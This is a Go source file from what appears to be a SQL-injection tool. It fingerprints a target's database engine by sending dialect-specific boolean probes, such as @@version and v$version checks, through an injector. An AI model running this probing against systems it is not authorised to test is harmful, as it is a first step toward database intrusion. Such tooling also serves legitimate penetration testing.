package dbmsfacade

import (
	"context"

	"github.com/0x6d61/sqleech/internal/forge"
	"github.com/0x6d61/sqleech/internal/injector"
)

// sniffSignature pairs a registered dialect name with a boolean condition
// that is true only under that dialect's syntax: a dialect-specific
// function or system view that either returns the wrong answer or fails
// to parse at all under every other engine.
type sniffSignature struct {
	dialect string
	cond    string
}

var sniffSignatures = []sniffSignature{
	{"mysql", "CONV(10,10,36)='a'"},
	{"postgresql", "version() LIKE '%PostgreSQL%'"},
	{"mssql", "@@version LIKE '%Microsoft%'"},
	{"oracle", "(SELECT banner FROM v$version WHERE ROWNUM=1) LIKE '%Oracle%'"},
}

// Sniff sends one boolean probe per registered signature over inj and
// returns the display name of whichever dialect's probe is the sole one
// to come back true. A request that errors (typically a syntax error
// from a foreign dialect rejecting the probe's function or system view)
// counts as a non-match rather than aborting the sniff. Sniff returns ""
// with no error when zero or more than one signature matches; the caller
// should fall back to an explicit dialect in that case.
func Sniff(ctx context.Context, inj injector.Injector) (string, error) {
	sctx := inj.Context()
	var matched []string

	for _, sig := range sniffSignatures {
		entry, ok := registry[sig.dialect]
		if !ok {
			continue
		}
		f := entry.newForge(sctx)
		if ok, err := probeSignature(ctx, f, inj, sig.cond); err == nil && ok {
			matched = append(matched, entry.display)
		}
	}

	if len(matched) != 1 {
		return "", nil
	}
	return matched[0], nil
}

func probeSignature(ctx context.Context, f forge.Forge, inj injector.Injector, cond string) (bool, error) {
	payload := f.WrapSQL(f.WrapBisec(cond))
	res, err := inj.Inject(ctx, payload)
	if err != nil {
		return false, err
	}
	if res.Bool == nil {
		return false, nil
	}
	return *res.Bool, nil
}
